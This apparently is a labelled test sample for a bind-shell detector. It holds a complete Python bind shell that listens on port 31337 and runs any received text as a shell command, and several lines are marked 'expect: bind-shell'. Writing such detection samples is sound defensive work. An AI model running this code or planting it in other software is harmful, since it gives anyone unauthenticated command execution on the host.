import socket, subprocess
srv = socket.socket()
srv.bind(("0.0.0.0", 31337))  # expect: bind-shell
srv.listen(1)  # expect: bind-shell
conn, addr = srv.accept()  # expect: bind-shell
while True:
    data = conn.recv(4096)
    res = subprocess.run(data.decode(), shell=True, capture_output=True)  # expect: bind-shell
    conn.send(res.stdout)
